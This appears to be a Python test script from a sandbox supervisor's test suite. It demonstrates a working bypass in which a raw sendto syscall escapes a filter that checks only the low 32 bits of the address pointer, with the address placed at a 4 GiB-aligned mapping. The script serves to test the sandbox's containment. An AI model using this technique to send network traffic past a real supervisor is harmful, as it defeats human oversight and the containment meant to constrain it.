# The filter tests only the low 32 bits of an argument: `sendto` is held only when its
# address pointer is not 0, so an address placed at a multiple of 4 GiB (low half 0)
# is a `sendto` the supervisor never sees. A UDP service outside (HOST_UDP_PORT) answers
# any datagram that reaches it.
from _lib import *
import ctypes, mmap, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
port = int(os.environ["HOST_UDP_PORT"])
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(2)
control("a UDP socket", lambda: u.fileno())

def answered(send):
    send()
    data, _ = u.recvfrom(100)  # socket.timeout is an OSError: no answer, held
    return data

attack("sendto the host UDP service", lambda: answered(lambda: u.sendto(b"x", ("127.0.0.1", port))))
MAP_FIXED_NOREPLACE = 0x100000
addr = None
for base in range(1, 64):
    want = base << 32
    p = libc.mmap(want, 4096, mmap.PROT_READ | mmap.PROT_WRITE,
                  mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0)
    if p == want:
        addr = p
        break
control("memory at a multiple of 4 GiB", lambda: addr or (_ for _ in ()).throw(OSError("no mapping")))
sa = struct.pack("<HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton("127.0.0.1"))
ctypes.memmove(addr, sa, len(sa))

def hidden_sendto():
    msg = b"x"
    r = libc.syscall(44, u.fileno(), msg, len(msg), 0, ctypes.c_void_p(addr), len(sa))
    if r < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))

attack("sendto with the address at a multiple of 4 GiB", lambda: answered(hidden_sendto))
